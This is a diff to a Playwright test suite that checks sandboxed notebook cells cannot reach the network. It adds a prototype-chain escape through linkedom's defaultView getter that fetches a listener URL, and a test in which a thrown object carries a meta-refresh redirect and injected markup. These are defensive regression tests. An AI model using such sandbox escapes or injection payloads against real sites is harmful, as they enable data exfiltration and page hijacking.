@@ -85,6 +85,13 @@ test.describe('cells reach nothing', () => {
       `Object.getPrototypeOf(globalThis).constructor.constructor('return fetch("${listener}/ctor")')()`,
       `const el: any = Plot.plot({ marks: [Plot.dot([[1, 2]])] });\nel.ownerDocument.defaultView.setTimeout('fetch("${listener}/linkedom")', 0)`,
       `new WebSocket("${listener.replace('http', 'ws')}/ws")`,
+      // linkedom's defaultView getter, called through the prototype chain (found by a red team).
+      [
+        'const svg: any = Plot.plot({ marks: [Plot.dot([1], { x: (d: number) => d })] });',
+        'let p = Object.getPrototypeOf(svg.ownerDocument), g: any = null;',
+        'while (p && !g) { const d = Object.getOwnPropertyDescriptor(p, "defaultView"); if (d && d.get) g = d.get; p = Object.getPrototypeOf(p); }',
+        `g.call(svg.ownerDocument).Function('return fetch("${listener}/defaultView")')()`,
+      ].join('\n'),
       `(navigator as any).sendBeacon("${listener}/beacon", "x")`,
     ];
     for (const code of vectors) {
@@ -133,6 +140,18 @@ test.describe('cells reach nothing', () => {
     expect(csp).toContain("connect-src 'none'");
     expect(csp).toContain("default-src 'none'");
     expect(csp).toMatch(/script-src 'self' 'unsafe-eval' 'wasm-unsafe-eval';/);
+  });
+
+  test('a thrown object that looks like an error cannot put markup in the page', async ({ page }) => {
+    await page.goto('/chapters/what-is-a-neural-network/');
+    const cell = page.locator('#cell-count-weights');
+    const before = page.url();
+    await run(page, cell, `throw { name: "E", message: "<b>m</b>", line: '<meta http-equiv="refresh" content="0;url=${listener}/redirected"><div id="pwned" style="position:fixed;inset:0">x</div>', column: 1 };`);
+    await expect(cell.locator('.nb-error')).toContainText('E: <b>m</b>');
+    await page.waitForTimeout(1000);
+    expect(page.url()).toBe(before);
+    expect(await page.locator('#pwned, main meta[http-equiv]').count()).toBe(0);
+    expect(hits).toEqual([]);
   });
 
   test('the build and the page give the same refusals', async ({ page }) => {
